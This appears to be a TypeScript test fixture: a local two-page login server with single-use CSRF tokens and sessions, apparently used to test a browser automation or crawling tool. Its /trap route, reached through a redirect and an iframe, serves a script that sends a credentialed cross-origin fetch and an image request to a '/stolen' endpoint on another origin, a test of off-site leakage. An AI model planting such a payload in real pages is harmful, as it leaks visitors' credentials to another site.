import { randomBytes } from "node:crypto"
import * as http from "node:http"
import type { AddressInfo } from "node:net"

/** A site with a login of two pages. Each form has a token that is good for one submission. */
export class LoginSite {
  readonly password = `pass-${randomBytes(8).toString("hex")}`
  readonly sessions = new Set<string>()
  readonly requests: Array<http.IncomingMessage> = []
  logins = 0
  /** The path of a page that asks for a login even after one. */
  closed = ""
  /** Of the page that is shown in place of one for readers. */
  wallStatus = 401
  url = ""
  /** The origin that redirects and frames lead to. */
  elsewhere = ""
  private readonly tokens = new Map<string, string>()
  private readonly server = http.createServer((request, response) => this.answer(request, response))

  async start(): Promise<this> {
    await new Promise<void>((resolve) => this.server.listen(0, "127.0.0.1", resolve))
    this.url = `http://127.0.0.1:${(this.server.address() as AddressInfo).port}`
    return this
  }

  stop(): void {
    this.server.closeAllConnections()
    this.server.close()
  }

  /** Ends all sessions, as a site does after some time. */
  expire(): void {
    this.sessions.clear()
  }

  /** Steps of a login with this password. */
  login(password = this.password) {
    return {
      url: `${this.url}/login`,
      actions: [
        { type: ["#user", "reader"] },
        { click: "button" },
        { wait_for: "#password" },
        { type: ["#password", password] },
        { click: "button" }
      ],
      done: "#out"
    }
  }

  private form(action: string, field: string, type: string, note = ""): string {
    const token = randomBytes(8).toString("hex")
    this.tokens.set(token, action)
    return `<!doctype html><title>Log in</title><h1>Log in</h1><p>${note}</p><form method="post" action="${action}">` +
      `<input type="hidden" name="csrf" value="${token}"><input id="${field}" name="${field}" type="${type}">` +
      `<button type="submit">Next</button></form>`
  }

  private answer(request: http.IncomingMessage, response: http.ServerResponse): void {
    this.requests.push(request)
    const { pathname, search } = new URL(request.url ?? "/", this.url)
    const html = (body: string, status = 200) =>
      void response.writeHead(status, { "content-type": "text/html" }).end(body)
    if (pathname === "/robots.txt") return void response.end("")
    if (pathname === "/away") return void response.writeHead(302, { location: `${this.elsewhere}/trap${search}` }).end()
    if (pathname === "/framed") return html(`<h1>Framed</h1><iframe src="${this.elsewhere}/trap${search}"></iframe>`)
    // A page that makes the browser send requests to another site.
    if (pathname === "/trap") {
      const asked = `fetch("${this.elsewhere}/stolen", { method: "POST", mode: "no-cors", credentials: "include" })`
      return html(`<h1>Trap</h1><img src="${this.elsewhere}/stolen.png"><script>${asked}</script>`)
    }
    if (request.method === "POST") {
      let sent = ""
      request.setEncoding("utf8").on("data", (text: string) => (sent += text)).on("end", () => {
        const values = new URLSearchParams(sent)
        const token = values.get("csrf") ?? ""
        const isFresh = this.tokens.get(token) === pathname
        this.tokens.delete(token)
        if (!isFresh) return html("<h1>The form has expired</h1>", 403)
        if (pathname === "/login/user") return html(this.form("/login/password", "password", "password"))
        this.logins++
        if (values.get("password") !== this.password) return html(this.form("/login/user", "user", "text", "Wrong."))
        const session = randomBytes(8).toString("hex")
        this.sessions.add(session)
        response.writeHead(303, { "set-cookie": `session=${session}; HttpOnly; Path=/`, location: "/home" }).end()
      })
      return
    }
    if (pathname === "/login") return html(this.form("/login/user", "user", "text"))
    if (pathname === "/open") return html("<h1>Open</h1><p>What everybody may read on this page of the site.</p>")
    const session = /session=(\w+)/.exec(request.headers.cookie ?? "")?.[1] ?? ""
    if (!this.sessions.has(session) || pathname === this.closed) {
      return html(
        this.form("/login/password", "password", "password", "Please log in to see this page."),
        this.wallStatus
      )
    }
    const links = pathname === "/home" ? [1, 2, 3].map((n) => `<a href="/page/${n}">page ${n}</a>`).join(" ") : ""
    html(
      `<!doctype html><title>${pathname}</title><main><h1>${pathname}</h1><p>This is what only readers see at ` +
        `${pathname}, and there is no other page like it.</p>${links}<a id="out" href="/logout">Log out</a></main>`
    )
  }
}
